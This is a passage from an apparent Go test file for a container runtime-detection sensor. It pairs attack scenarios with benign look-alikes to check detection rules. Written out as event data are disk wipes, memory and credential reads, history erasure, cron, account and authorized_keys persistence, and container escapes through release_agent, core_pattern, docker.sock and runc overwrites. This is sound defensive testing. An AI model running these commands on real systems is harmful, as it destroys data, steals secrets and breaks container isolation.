		scenario{"rm -rf --no-preserve-root /", wiper, true,
			evs(execEv(proc("rm", "/usr/bin/rm", "rm", "-rf", "--no-preserve-root", "/"), inCtr)), nil},
		scenario{"wipefs -a on a volume", wiper, true, evs(execEv(proc("wipefs", "/usr/sbin/wipefs", "wipefs", "-a", "/dev/xvdf"))), nil},
		scenario{"dd writing an image file is not", wiper, false,
			evs(execEv(proc("dd", "/usr/bin/dd", "dd", "if=/dev/zero", "of=/tmp/swapfile", "bs=1M", "count=64"))), nil},
		scenario{"dd reading a disk is not", wiper, false, evs(execEv(proc("dd", "/usr/bin/dd", "dd", "if=/dev/sda", "of=/backup/sda.img"))), nil},
		scenario{"mkfs on the host (provisioning a volume) is not", wiper, false,
			evs(execEv(proc("mkfs.ext4", "/usr/sbin/mkfs.ext4", "mkfs.ext4", "/dev/xvdf"))), nil},
		scenario{"wipefs listing signatures is not", wiper, false, evs(execEv(proc("wipefs", "/usr/sbin/wipefs", "wipefs", "/dev/xvdf"))), nil},
	)
	add(
		scenario{"a miner dropped as /tmp/kdevtmpfsi", kthreadName, true, evs(execEv(proc("kdevtmpfsi", "/tmp/kdevtmpfsi", "/tmp/kdevtmpfsi"), inCtr)), nil},
		scenario{"a renamed binary called kswapd0", kthreadName, true, evs(execEv(proc("kswapd0", "/var/tmp/.x/kswapd0", "./kswapd0"))), nil},
		scenario{"exec -a '[kworker/0:1]' ./implant", kthreadName, true,
			evs(execEv(proc("implant", "/dev/shm/implant", "[kworker/0:1]"))), nil},
		scenario{"the watchdog daemon is not", kthreadName, false, evs(execEv(proc("watchdog", "/usr/sbin/watchdog", "/usr/sbin/watchdog"))), nil},
		scenario{"a program whose argument is in brackets is not", kthreadName, false,
			evs(execEv(proc("echo", "/usr/bin/echo", "echo", "[kworker/0:1]"))), nil},
	)
	dumper := proc("python3", "/usr/bin/python3", "python3", "mimipenguin.py")
	add(
		scenario{"a script reading sshd's memory", memRead, true, evs(readEv(dumper, "/proc/812/mem")), nil},
		scenario{"a thread's memory in a container", memRead, true, evs(readEv(dumper, "/proc/1/task/7/mem", inCtr)), nil},
		scenario{"a process reading its own memory is not", memRead, false, evs(readEv(dumper, fmt.Sprintf("/proc/%d/mem", dumper.Pid))), nil},
		scenario{"gdb attaching to read memory is not", memRead, false, evs(readEv(proc("gdb", "/usr/bin/gdb", "gdb", "-p", "812"), "/proc/812/mem")), nil},
		scenario{"reading another process's memory map is not", memRead, false, evs(readEv(dumper, "/proc/812/maps")), nil},
	)
	const newUser, newNS, newNet = 0x10000000, 0x00020000, 0x40000000
	add(
		scenario{"unshare -Urm in a container (an exploit's first step)", userns, true,
			evs(unshareEv(proc("unshare", "/usr/bin/unshare", "unshare", "-Urm", "sh"), newUser|newNS, inCtr)), nil},
		scenario{"the attempt counts when seccomp refuses it", userns, true,
			evs(unshareEv(proc("exploit", "/tmp/exploit", "./exploit"), newUser|newNS, inCtr, failed("EPERM", 1))), nil},
		scenario{"headless Chromium's sandbox is not", userns, false,
			evs(unshareEv(proc("chrome", "/opt/google/chrome/chrome", "chrome", "--headless"), newUser, inCtr)), nil},
		scenario{"a network namespace alone is not", userns, false,
			evs(unshareEv(proc("unshare", "/usr/bin/unshare", "unshare", "-n", "true"), newNet, inCtr)), nil},
		scenario{"on the host it is not", userns, false,
			evs(unshareEv(proc("unshare", "/usr/bin/unshare", "unshare", "-Ur", "true"), newUser)), nil},
	)
	pwnkit := proc("pkexec", "/usr/bin/pkexec", "")
	pwnkitOld := proc("pkexec", "/usr/bin/pkexec")
	pwnkitOld.Args = nil
	add(
		scenario{"pkexec started with an empty argument list (the kernel's single empty argument)", noArgs, true,
			evs(execEv(childOf(pwnkit, proc("exploit", "/tmp/exploit", "./exploit")))), nil},
		scenario{"pkexec started with no arguments at all (before Linux 5.18)", noArgs, true,
			evs(execEv(childOf(pwnkitOld, proc("exploit", "/tmp/exploit", "./exploit")), inCtr)), nil},
		scenario{"pkexec started the usual way is not", noArgs, false,
			evs(execEv(proc("pkexec", "/usr/bin/pkexec", "pkexec", "/usr/bin/systemctl", "restart", "nginx"))), nil},
		scenario{"a program whose first argument is empty after a name is not", noArgs, false,
			evs(execEv(proc("printf", "/usr/bin/printf", "printf", ""))), nil},
	)
	msrMiner := proc("kswapd0", "/var/tmp/.x/kswapd0", "kswapd0")
	add(
		scenario{"a renamed miner opening each CPU's MSR device for writing", msrWrite, true,
			evs(openEv(msrMiner, "openat", "/dev/cpu/0/msr", oWRONLY)), nil},
		scenario{"the attempt counts when the msr module is missing", msrWrite, true,
			evs(openEv(msrMiner, "openat", "/dev/cpu/1/msr", oRDWR, failed("ENOENT", 2), inCtr)), nil},
		scenario{"rdmsr reading a register is not", msrWrite, false,
			evs(readEv(proc("rdmsr", "/usr/sbin/rdmsr", "rdmsr", "0x1a0"), "/dev/cpu/0/msr")), nil},
		scenario{"wrmsr is a tuning tool", msrWrite, false,
			evs(openEv(proc("wrmsr", "/usr/sbin/wrmsr", "wrmsr", "-a", "0x1a4", "0xf"), "openat", "/dev/cpu/0/msr", oWRONLY)), nil},
		scenario{"reading cpuid is not", msrWrite, false, evs(readEv(msrMiner, "/dev/cpu/0/cpuid")), nil},
	)
	dropper := proc("kdevtmpfsi", "/tmp/kdevtmpfsi", "/tmp/kdevtmpfsi")
	add(
		scenario{"a program unlinks the file it runs from", selfDelete, true, evs(unlinkEv(dropper, "/tmp/kdevtmpfsi", inCtr)), nil},
		scenario{"a program unlinking another file is not", selfDelete, false, evs(unlinkEv(dropper, "/tmp/kdevtmpfsi.lock")), nil},
		scenario{"rm deleting a program that ran earlier is not (its own executable is rm)", selfDelete, false,
			evs(unlinkEv(proc("rm", "/usr/bin/rm", "rm", "-f", "/tmp/kdevtmpfsi"), "/tmp/kdevtmpfsi")), nil},
		scenario{"a failed unlink of its own executable is not", selfDelete, false, evs(unlinkEv(dropper, "/tmp/kdevtmpfsi", failed("EACCES", 13))), nil},
	)
	trEnv := proc("tr", "/usr/bin/tr", "tr", "\\0", "\\n")
	add(
		scenario{"a shell tool reads pid 1's environment in a container", envRead, true, evs(readEv(trEnv, "/proc/1/environ", inCtr)), nil},
		scenario{"a thread's environment of another process", envRead, true, evs(readEv(trEnv, "/proc/4242/task/4243/environ")), nil},
		scenario{"a process reading its own environment (by host pid) is not", envRead, false,
			evs(readEv(trEnv, fmt.Sprintf("/proc/%d/environ", trEnv.Pid))), nil},
		scenario{"a process reading its own environment (by pid in its namespace) is not", envRead, false,
			evs(readEv(withNsPid(proc("cat", "/bin/cat", "cat", "/proc/self/environ"), 7), "/proc/7/environ", inCtr)), nil},
		scenario{"ps showing environments is not", envRead, false, evs(readEv(proc("ps", "/usr/bin/ps", "ps", "eww"), "/proc/1/environ")), nil},
		scenario{"reading another process's command line is not", envRead, false, evs(readEv(trEnv, "/proc/1/cmdline")), nil},
	)
	add(
		scenario{"a history file opened with O_TRUNC is erased", history, true,
			evs(openEv(sh("-c", ": > /root/.bash_history"), "openat", "/root/.bash_history", oWRONLY|oCREAT|oTRUNC)), nil},
		scenario{"a history file truncated to zero is erased", history, true,
			evs(truncateEv(proc("truncate", "/usr/bin/truncate", "truncate", "-s0", "/root/.bash_history"), "truncate", "/root/.bash_history", 0)), nil},
		scenario{"a history file removed is erased", history, true,
			evs(unlinkEv(proc("rm", "/usr/bin/rm", "rm", "-f", "/home/a/.zsh_history"), "/home/a/.zsh_history")), nil},
		scenario{"ln -sf /dev/null over the history through a rename is erased", history, true,
			evs(renameEv(proc("ln", "/usr/bin/ln", "ln", "-sf", "/dev/null", "/root/.bash_history"), "renameat2", "/root/.bash_history.tmp1", "/root/.bash_history")), nil},
		scenario{"a history file moved away is erased", history, true,
			evs(renameEv(proc("mv", "/usr/bin/mv", "mv"), "renameat", "/root/.bash_history", "/tmp/h")), nil},
		scenario{"python rewriting its own REPL history at exit is not", history, false,
			evs(openEv(proc("python3", "/usr/bin/python3.11", "python3"), "openat", "/root/.python_history", oWRONLY|oCREAT|oTRUNC)), nil},
		scenario{"python truncating the bash history is", history, true,
			evs(openEv(proc("python3", "/usr/bin/python3.11", "python3"), "openat", "/root/.bash_history", oWRONLY|oCREAT|oTRUNC)), nil},
		scenario{"bash appending to its history is not", history, false,
			evs(openEv(sh(), "openat", "/root/.bash_history", oWRONLY|oAPPEND)), nil},
	)
	add(
		scenario{"LD_PRELOAD naming an unknown library", ldPre, true,
			evs(execEv(proc("sshd", "/usr/sbin/sshd", "sshd"), ldPreload("/tmp/.l/libprocesshider.so"))), nil},
		scenario{"LD_PRELOAD with a library named like jemalloc in /tmp", ldPre, true,
			evs(execEv(proc("sshd", "/usr/sbin/sshd", "sshd"), ldPreload("/tmp/libjemalloc.so"))), nil},
		scenario{"LD_PRELOAD with jemalloc is not", ldPre, false,
			evs(execEv(proc("redis-server", "/usr/bin/redis-server", "redis-server"), ldPreload("/usr/lib/x86_64-linux-gnu/libjemalloc.so.2"))), nil},
		scenario{"no LD_PRELOAD is not", ldPre, false, evs(execEv(proc("ls", "/usr/bin/ls", "ls"))), nil},
	)

	add(
		scenario{"a loader making a buffer RWX", wx, true, evs(mprotectEv(proc("ld", "/tmp/ld", "./ld"), 7)), nil},
		scenario{"a loader making a buffer WX", wx, true, evs(mprotectEv(proc("ld", "/tmp/ld", "./ld"), 6)), nil},
		scenario{"a JIT flipping code to read-execute is not", wx, false, evs(mprotectEv(proc("python3", "/usr/bin/python3", "python3"), 5)), nil},
		scenario{"java's code cache is not", wx, false, evs(mprotectEv(proc("java", "/usr/lib/jvm/java-17/bin/java", "java"), 7)), nil},
		scenario{"a failed mprotect is not", wx, false, evs(mprotectEv(proc("ld", "/tmp/ld", "./ld"), 7, failed("EACCES", 13))), nil},
	)

	ld := "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2"
	add(
		scenario{"a binary on a noexec mount run through ld.so", loaderRun, true,
			evs(execEv(proc("ld-linux-x86-64", ld, "/lib64/ld-linux-x86-64.so.2", "/dev/shm/x"))), nil},
		scenario{"a musl loader running a program", loaderRun, true,
			evs(execEv(proc("ld-musl-x86_64.", "/lib/ld-musl-x86_64.so.1", "/lib/ld-musl-x86_64.so.1", "/tmp/p"), inCtr)), nil},
		scenario{"ldd tracing a binary's libraries is not", loaderRun, false,
			evs(execEv(withParents(proc("ld-linux-x86-64", ld, "/lib64/ld-linux-x86-64.so.2", "/bin/ls"), anc{"ldd", "/usr/bin/bash"}))), nil},
		scenario{"ld.so --verify is not", loaderRun, false,
			evs(execEv(proc("ld-linux-x86-64", ld, "/lib64/ld-linux-x86-64.so.2", "--verify", "/bin/ls"))), nil},
	)

	// Persistence and discovery.
	add(
		scenario{"find / -name id_rsa", keySearch, true, evs(execEv(proc("find", "/usr/bin/find", "find", "/", "-name", "id_rsa"))), nil},
		scenario{"grep -r for private key headers", keySearch, true, evs(execEv(proc("grep", "/usr/bin/grep", "grep", "-r", "BEGIN OPENSSH PRIVATE", "/home"))), nil},
		scenario{"grep for aws keys", keySearch, true, evs(execEv(proc("grep", "/usr/bin/grep", "grep", "-ri", "aws_secret_access_key", "/"))), nil},
		scenario{"find for source files is not", keySearch, false, evs(execEv(proc("find", "/usr/bin/find", "find", ".", "-name", "*.go"))), nil},
		scenario{"grep in logs is not", keySearch, false, evs(execEv(proc("grep", "/usr/bin/grep", "grep", "-i", "error", "/var/log/app.log"))), nil},
	)
	add(
		scenario{"useradd creates an account", persistCmd, true, evs(execEv(proc("useradd", "/usr/sbin/useradd", "useradd", "-m", "bob"))), nil},
		scenario{"systemctl enable installs a service", persistCmd, true, evs(execEv(proc("systemctl", "/usr/bin/systemctl", "systemctl", "enable", "x.service"))), nil},
		scenario{"crontab from a file installs jobs", persistCmd, true, evs(execEv(proc("crontab", "/usr/bin/crontab", "crontab", "/tmp/c"))), nil},
		scenario{"adduser run by a package's maintainer script is not", persistCmd, false,
			evs(execEv(childOf(proc("adduser", "/usr/sbin/adduser", "adduser", "--system", "_apt"), proc("dpkg", "/usr/bin/dpkg", "dpkg")))), nil},
		scenario{"systemctl status is not", persistCmd, false, evs(execEv(proc("systemctl", "/usr/bin/systemctl", "systemctl", "status", "x"))), nil},
	)
	add(
		scenario{"id run by a script in a container is reconnaissance", recon, true,
			evs(execEv(childOf(proc("id", "/usr/bin/id", "id"), proc("python3", "/usr/bin/python3", "python3", "x.py")), inCtr)), nil},
		scenario{"id on the host is not container reconnaissance", recon, false, evs(execEv(proc("id", "/usr/bin/id", "id"))), nil},
		scenario{"an operator typing whoami in a container terminal is not", recon, false,
			evs(execEv(withTTY(proc("whoami", "/usr/bin/whoami", "whoami")), inCtr)), nil},
	)
	add(
		scenario{"aws sts get-caller-identity is cloud discovery", cloudID, true,
			evs(execEv(proc("aws", "/usr/local/bin/aws", "aws", "sts", "get-caller-identity"))), nil},
		scenario{"kubectl get secrets is cloud discovery", cloudID, true,
			evs(execEv(proc("kubectl", "/usr/local/bin/kubectl", "kubectl", "get", "secrets", "-A"))), nil},
		scenario{"aws s3 cp is not", cloudID, false, evs(execEv(proc("aws", "/usr/local/bin/aws", "aws", "s3", "cp", "a", "s3://b/a"))), nil},
	)
	add(
		scenario{"curl to the instance metadata service from a container", imds, true,
			evs(connectEv(proc("curl", "/usr/bin/curl", "curl", "http://169.254.169.254/latest/meta-data/"), "169.254.169.254", 80, inCtr)), nil},
		scenario{"an SDK fetching task credentials from the ECS endpoint is not", imds, false,
			evs(connectEv(proc("java", "/usr/bin/java", "java", "-jar", "app.jar"), "169.254.170.2", 80, inCtr)), nil},
		scenario{"the metadata service from the host is not", imds, false,
			evs(connectEv(proc("curl", "/usr/bin/curl", "curl"), "169.254.169.254", 80)), nil},
	)
	add(
		scenario{"cat of AWS credentials is a credential read", cloudCreds, true, evs(readEv(proc("cat", "/usr/bin/cat", "cat", "/root/.aws/credentials"), "/root/.aws/credentials")), nil},
		scenario{"the aws CLI reading its credentials is not", cloudCreds, false, evs(readEv(proc("aws", "/usr/local/bin/aws", "aws"), "/root/.aws/credentials")), nil},
	)
	scan := proc("scan", "/tmp/scan", "./scan")
	var scanEvs, fewEvs, webEvs []*vigilv1.Event
	for i := uint32(0); i < 60; i++ {
		res := failed("ECONNREFUSED", 111)
		if i%2 == 0 {
			res = failed("EINPROGRESS", 115)
		}
		scanEvs = append(scanEvs, connectEv(scan, "10.0.0.20", 20+i, res, after(time.Duration(i)*10*time.Millisecond)))
	}
	few := proc("scan", "/tmp/scan", "./scan")
	for i := uint32(0); i < 40; i++ {
		fewEvs = append(fewEvs, connectEv(few, "10.0.0.20", 20+i, failed("ECONNREFUSED", 111), after(time.Duration(i)*10*time.Millisecond)))
	}
	nginx := proc("nginx", "/usr/sbin/nginx", "nginx: worker process")
	for i := 0; i < 500; i++ {
		webEvs = append(webEvs, connectEv(nginx, "10.0.2."+string(rune('0'+i%10)), 8080, failed("EINPROGRESS", 115), after(time.Duration(i)*time.Millisecond)))
	}
	add(
		scenario{"sixty closed or pending ports in under a second is a port scan", portScan, true, scanEvs, nil},
		scenario{"forty ports stays below the count", portScan, false, fewEvs, nil},
		scenario{"a web server's many non-blocking connects to one upstream port are not", portScan, false, webEvs, nil},
	)
	add(
		scenario{"an AF_PACKET socket from an unknown program", rawSock, true, evs(socketEv(proc("x", "/tmp/x", "./x"), 17, "AF_PACKET")), nil},
		scenario{"dhclient's AF_PACKET socket is not", rawSock, false, evs(socketEv(proc("dhclient", "/usr/sbin/dhclient", "dhclient"), 17, "AF_PACKET")), nil},
		scenario{"an AF_NETLINK socket is not", rawSock, false, evs(socketEv(proc("x", "/tmp/x", "./x"), 16, "AF_NETLINK")), nil},
	)

	// Privilege escalation and escapes.
	add(
		scenario{"release_agent opened for write in a container", relAgent, true,
			evs(openEv(sh("-c", "echo /cmd > /tmp/cg/release_agent"), "openat", "/tmp/cg/release_agent", oWRONLY|oCREAT|oTRUNC, inCtr)), nil},
		scenario{"a denied release_agent write attempt", relAgent, true,
			evs(openEv(sh(), "openat", "/sys/fs/cgroup/release_agent", oWRONLY, inCtr, failed("EROFS", 30))), nil},
		scenario{"systemd on the host writing release_agent is not", relAgent, false,
			evs(openEv(proc("systemd", "/usr/lib/systemd/systemd", "/sbin/init"), "openat", "/sys/fs/cgroup/systemd/release_agent", oWRONLY)), nil},
		scenario{"a process renamed systemd on the host is not systemd", relAgent, true,
			evs(openEv(proc("systemd", "/tmp/systemd", "systemd"), "openat", "/sys/fs/cgroup/release_agent", oWRONLY)), nil},
		scenario{"reading release_agent is not", relAgent, false,
			evs(readEv(proc("cat", "/usr/bin/cat", "cat"), "/sys/fs/cgroup/release_agent", inCtr)), nil},
	)
	add(
		scenario{"core_pattern opened for write in a privileged container", kernelHook, true,
			evs(openEv(sh("-c", "echo '|/tmp/x' > /proc/sys/kernel/core_pattern"), "openat", "/proc/sys/kernel/core_pattern", oWRONLY|oTRUNC, inCtr)), nil},
		scenario{"a binfmt_misc interpreter registered through a procfs mounted in /tmp", kernelHook, true,
			evs(openEv(proc("x", "/tmp/x", "./x"), "openat", "/tmp/p/sys/fs/binfmt_misc/register", oWRONLY, inCtr)), nil},
		scenario{"a denied uevent_helper write attempt", kernelHook, true,
			evs(openEv(sh(), "openat", "/sys/kernel/uevent_helper", oWRONLY, inCtr, failed("EROFS", 30))), nil},
		scenario{"reading core_pattern in a container is not", kernelHook, false,
			evs(readEv(proc("cat", "/bin/cat", "cat"), "/proc/sys/kernel/core_pattern", inCtr)), nil},
		scenario{"systemd-sysctl setting core_pattern on the host at boot is not", kernelHook, false,
			evs(openEv(proc("systemd-sysctl", "/usr/lib/systemd/systemd-sysctl", "systemd-sysctl"), "openat", "/proc/sys/kernel/core_pattern", oWRONLY)), nil},
	)
	runcP := proc("runc", "/usr/bin/runc", "runc", "init")
	add(
		scenario{"a failed mount of /etc inside a container", mount, true,
			evs(mountEv(proc("m", "/tmp/m", "./m"), "/etc", "/tmp", "", inCtr, failed("EPERM", 1))), nil},
		scenario{"mounting the host disk inside a privileged container", mount, true,
			evs(mountEv(proc("mount", "/usr/bin/mount", "mount", "/dev/nvme0n1p1", "/mnt"), "/dev/nvme0n1p1", "/mnt", "ext4", inCtr)), nil},
		scenario{"nsenter -t 1 -a in a pod sharing the host's PID namespace", nsEnter, true,
			evs(setnsEv(proc("nsenter", "/usr/bin/nsenter", "nsenter", "-t", "1", "-a", "sh"), "mnt:[4026531841]", 0x20000, inCtr)), nil},
		scenario{"a refused attempt still is", nsEnter, true,
			evs(setnsEv(proc("x", "/tmp/x", "./x"), "mnt:[4026531841]", 0, inCtr, failed("EPERM", 1))), nil},
		scenario{"runc joining the container's namespaces for an exec is not", nsEnter, false,
			evs(setnsEv(runcP, "mnt:[4026532201]", 0x20000, inCtr)), nil},
		scenario{"a node agent entering a pod's network namespace is not", nsEnter, false,
			evs(setnsEv(proc("cilium-agent", "/usr/bin/cilium-agent", "cilium-agent"), "net:[4026532300]", 0x40000000, inCtr, image("quay.io/cilium/cilium:v1.16.0"))), nil},
		scenario{"the same agent image entering the host's mount namespace is", nsEnter, true,
			evs(setnsEv(proc("cilium-agent", "/usr/bin/cilium-agent", "cilium-agent"), "mnt:[4026531841]", 0x20000, inCtr, image("quay.io/cilium/cilium:v1.16.0"))), nil},
		scenario{"setns on the host is not this rule's", nsEnter, false,
			evs(setnsEv(proc("ip", "/usr/bin/ip", "ip", "netns", "exec", "x", "sh"), "net:[4026532300]", 0x40000000)), nil},
		scenario{"runc setting up the container's mounts is not", mount, false,
			evs(mountEv(runcP, "proc", "/proc", "proc", inCtr)), nil},
		scenario{"runc 1.1 setting up mounts from its sealed copy on a detached bind mount is not", mount, false,
			evs(mountEv(childOf(childOf(outsideRoot(proc("runc:[2:INIT]", "/runc", "runc", "init")),
				outsideRoot(proc("runc:[1:CHILD]", "/runc", "runc", "init"))), proc("runc", "/usr/sbin/runc", "runc", "create")),
				"tmpfs", "/proc/acpi", "tmpfs", inCtr)), nil},
		scenario{"a binary named /runc inside the container mounting the host disk is", mount, true,
			evs(mountEv(childOf(proc("runc", "/runc", "/runc"), childOf(proc("sh", "/bin/sh", "sh"), proc("runc", "/usr/sbin/runc", "runc", "exec"))),
				"/dev/nvme0n1p1", "/mnt", "ext4", inCtr)), nil},
		scenario{"the Vigil sensor mounting tracefs from its DaemonSet container is not", mount, false,
			evs(mountEv(proc("vigil-sensor", "/usr/local/bin/vigil-sensor", "vigil-sensor"), "tracefs", "/sys/kernel/tracing", "tracefs", inCtr, image("ghcr.io/vigilsec/vigil-sensor:0.1.0"))), nil},
		scenario{"an agent image mounting the host disk still is a host mount", mount, true,
			evs(mountEv(proc("sh", "/bin/sh", "sh"), "/dev/nvme0n1p1", "/mnt", "ext4", inCtr, image("ghcr.io/vigilsec/vigil-sensor:0.1.0"))), nil},
		scenario{"a mount on the host is not", mount, false, evs(mountEv(proc("mount", "/usr/bin/mount", "mount"), "/dev/sdb1", "/data", "xfs")), nil},
	)
	add(
		scenario{"nc -U to docker.sock from a container", dockerSock, true,
			evs(connectUnixEv(proc("nc", "/usr/bin/nc", "nc", "-U", "/var/run/docker.sock"), "/var/run/docker.sock", inCtr)), nil},
		scenario{"curl to containerd's ttrpc socket from a container", dockerSock, true,
			evs(connectUnixEv(proc("curl", "/usr/bin/curl", "curl"), "/run/containerd/containerd.sock.ttrpc", inCtr)), nil},
		scenario{"a host program renamed docker in /tmp is not the docker CLI", dockerSock, true,
			evs(connectUnixEv(proc("docker", "/tmp/docker", "docker"), "/run/docker.sock")), nil},
		scenario{"the Vigil sensor asking containerd about containers from its DaemonSet is not", dockerSock, false,
			evs(connectUnixEv(proc("vigil-sensor", "/usr/local/bin/vigil-sensor", "vigil-sensor"), "/run/containerd/containerd.sock", inCtr, image("ghcr.io/vigilsec/vigil-sensor:0.1.0"))), nil},
		scenario{"the docker CLI on the host is not", dockerSock, false,
			evs(connectUnixEv(proc("docker", "/usr/bin/docker", "docker", "ps"), "/run/docker.sock")), nil},
		scenario{"kubelet talking to containerd is not", dockerSock, false,
			evs(connectUnixEv(proc("kubelet", "/usr/bin/kubelet", "kubelet"), "/run/containerd/containerd.sock")), nil},
		scenario{"an app in a container using its own unix socket is not", dockerSock, false,
			evs(connectUnixEv(proc("php-fpm", "/usr/sbin/php-fpm", "php-fpm"), "/run/php/php-fpm.sock", inCtr)), nil},
	)
	add(
		scenario{"runc opened for write", runc, true, evs(openEv(proc("x", "/tmp/x", "./x"), "openat", "/usr/bin/runc", oWRONLY|oTRUNC, inCtr)), nil},
		scenario{"runc replaced through creat(2)", runc, true, evs(openEv(proc("x", "/tmp/x", "./x"), "creat", "/usr/local/sbin/runc", oWRONLY|oCREAT|oTRUNC)), nil},
		scenario{"runc at a custom path under /opt replaced", runc, true, evs(openEv(proc("x", "/tmp/x", "./x"), "openat", "/opt/bin/runc", oWRONLY|oTRUNC)), nil},
		scenario{"a CI job linking a runc binary it is building is not", runc, false,
			evs(writeEv(proc("link", "/usr/local/go/pkg/tool/linux_amd64/link", "link", "-o", "runc"), "/home/ci/src/runc/runc")), nil},
		scenario{"a failed attempt to open runc's /proc/<pid>/exe for writing (ETXTBSY)", runc, true,
			evs(openEv(proc("x", "/tmp/x", "./x"), "openat", "/proc/4242/exe", oWRONLY|oTRUNC, inCtr, failed("ETXTBSY", 26))), nil},
		scenario{"reading /proc/self/exe is not", runc, false,
			evs(openEv(proc("x", "/usr/bin/x", "x"), "openat", "/usr/bin/x", oRDONLY, requested("/proc/self/exe"))), nil},
		scenario{"dpkg upgrading runc is not", runc, false, evs(openEv(dpkg, "openat", "/usr/bin/runc", oWRONLY|oCREAT|oTRUNC)), nil},
		scenario{"containerd executing runc reads it and is not", runc, false,
			evs(readEv(proc("containerd", "/usr/bin/containerd", "containerd"), "/usr/bin/runc")), nil},
	)
	add(
		scenario{"the userfaultfd syscall", uffd, true, evs(userfaultfdEv(proc("x", "/tmp/x", "./x"))), nil},
		scenario{"opening /dev/userfaultfd", uffd, true, evs(openEv(proc("x", "/tmp/x", "./x"), "openat", "/dev/userfaultfd", oRDWR)), nil},
		scenario{"an exploit renamed criu is not criu", uffd, true, evs(userfaultfdEv(proc("criu", "/tmp/criu", "criu"))), nil},
		scenario{"criu restoring a process is not", uffd, false, evs(userfaultfdEv(proc("criu", "/usr/sbin/criu", "criu", "restore"))), nil},
	)
	add(
		scenario{"a non-root user gaining euid 0 through an unusual setuid binary", elevate, true,
			evs(execEv(asUser(proc("pkexec", "/usr/bin/pkexec", "pkexec"), 1000, 0))), nil},
		scenario{"a setuid copy of bash in /tmp", elevate, true,
			evs(execEv(asUser(proc("bash", "/tmp/.b", "/tmp/.b", "-p"), 1000, 0))), nil},
		scenario{"sudo is the usual way and not", elevate, false,
			evs(execEv(asUser(proc("sudo", "/usr/bin/sudo", "sudo", "apt", "update"), 1000, 0))), nil},
		scenario{"cron mail through setuid exim is not", elevate, false,
			evs(execEv(asUser(proc("exim4", "/usr/sbin/exim4", "/usr/sbin/sendmail", "-i", "-t"), 1000, 0))), nil},
		scenario{"root running a program is not an elevation", elevate, false, evs(execEv(proc("ls", "/usr/bin/ls", "ls"))), nil},
		scenario{"a user's own program is not", elevate, false, evs(execEv(asUser(proc("ls", "/usr/bin/ls", "ls"), 1000, 1000))), nil},
	)
	add(
		scenario{"chmod u+s", privCmd, true, evs(execEv(proc("chmod", "/usr/bin/chmod", "chmod", "u+s", "/tmp/b"))), nil},
		scenario{"chmod 4755", privCmd, true, evs(execEv(proc("chmod", "/usr/bin/chmod", "chmod", "4755", "/tmp/b"))), nil},
		scenario{"nsenter --target=1 into the host", privCmd, true,
			evs(execEv(proc("nsenter", "/usr/bin/nsenter", "nsenter", "--target=1", "--mount", "--uts", "--ipc", "--net", "--pid"))), nil},
		scenario{"a privileged container with the host root bind-mounted through --mount", privCmd, true,
			evs(execEv(proc("docker", "/usr/bin/docker", "docker", "run", "--privileged", "--mount", "type=bind,source=/,target=/host", "alpine"))), nil},
		scenario{"debugfs inside a container", privCmd, true, evs(execEv(proc("debugfs", "/sbin/debugfs", "debugfs", "/dev/nvme0n1p1"), inCtr)), nil},
		scenario{"debugfs on the host is not", privCmd, false, evs(execEv(proc("debugfs", "/sbin/debugfs", "debugfs", "-R", "stat /", "/dev/sda1"))), nil},
		scenario{"chmod 755 is not", privCmd, false, evs(execEv(proc("chmod", "/usr/bin/chmod", "chmod", "755", "/tmp/b"))), nil},
		scenario{"docker run --privileged of a build image without host mounts is not", privCmd, false,
			evs(execEv(proc("docker", "/usr/bin/docker", "docker", "run", "--privileged", "-v", "/var/lib/ci:/ci", "builder"))), nil},
	)
	add(
		scenario{"BPF_PROG_LOAD in a container", bpfCtr, true, evs(bpfEv(proc("x", "/tmp/x", "./x"), 5, "BPF_PROG_LOAD", inCtr)), nil},
		scenario{"BPF_MAP_CREATE in a container is not a program load", bpfCtr, false, evs(bpfEv(proc("x", "/tmp/x", "./x"), 0, "BPF_MAP_CREATE", inCtr)), nil},
		scenario{"the Vigil sensor's DaemonSet container loading its probes is not", bpfCtr, false,
			evs(bpfEv(proc("vigil-sensor", "/usr/local/bin/vigil-sensor", "vigil-sensor"), 5, "BPF_PROG_LOAD", inCtr, image("ghcr.io/vigilsec/vigil-sensor:0.1.0"))), nil},
		scenario{"BPF_PROG_LOAD on the host (the sensor itself) is not", bpfCtr, false,
			evs(bpfEv(proc("vigil-sensor", "/usr/local/bin/vigil-sensor", "vigil-sensor"), 5, "BPF_PROG_LOAD")), nil},
	)
	add(
		scenario{"fchmodat setting the setuid bit from a program", setuidBit, true, evs(chmodEv(proc("x", "/tmp/x", "./x"), "fchmodat", "/tmp/sh", 0o4755)), nil},
		scenario{"fchmod setting the setuid bit", setuidBit, true, evs(chmodEv(proc("python3", "/usr/bin/python3", "python3"), "fchmod", "/var/tmp/b", 0o104755)), nil},
		scenario{"a plain chmod 755 is not", setuidBit, false, evs(chmodEv(proc("chmod", "/usr/bin/chmod", "chmod"), "fchmodat", "/tmp/b", 0o755)), nil},
		scenario{"a setgid directory is not", setuidBit, false, evs(chmodEv(proc("chmod", "/usr/bin/chmod", "chmod"), "fchmodat", "/srv/shared", 0o2775)), nil},
		scenario{"dpkg installing a setuid binary is not", setuidBit, false, evs(chmodEv(dpkg, "fchmodat", "/usr/bin/passwd", 0o4755)), nil},
		scenario{"containerd unpacking an image layer is not", setuidBit, false,
			evs(chmodEv(proc("containerd", "/usr/bin/containerd", "containerd"), "fchmodat", "/var/lib/containerd/snap/1/fs/usr/bin/su", 0o4755)), nil},
	)

	// Sensitive files.
	add(
		scenario{"/etc/passwd opened for writing", persistF, true, evs(openEv(sh(), "openat", "/etc/passwd", oWRONLY|oAPPEND, inCtr)), nil},
		scenario{"an authorized_keys file written", persistF, true, evs(writeEv(proc("tee", "/usr/bin/tee", "tee", "-a"), "/root/.ssh/authorized_keys")), nil},
		scenario{"a cron file renamed into /etc/cron.d", persistF, true, evs(renameEv(proc("mv", "/usr/bin/mv", "mv"), "renameat2", "/tmp/j", "/etc/cron.d/j")), nil},
		scenario{"a systemd unit symlinked into place", persistF, true, evs(linkEv(proc("ln", "/usr/bin/ln", "ln"), "symlinkat", "/tmp/x.service", "/etc/systemd/system/x.service")), nil},
		scenario{"/etc/shadow moved away", persistF, true, evs(renameEv(proc("mv", "/usr/bin/mv", "mv"), "rename", "/etc/shadow", "/tmp/s")), nil},
		scenario{"/etc/shadow hard-linked elsewhere", persistF, true, evs(linkEv(proc("ln", "/usr/bin/ln", "ln"), "linkat", "/etc/shadow", "/tmp/s")), nil},
		scenario{"a tool renamed passwd in /tmp writing /etc/shadow", persistF, true, evs(writeEv(proc("passwd", "/tmp/passwd", "passwd"), "/etc/shadow")), nil},
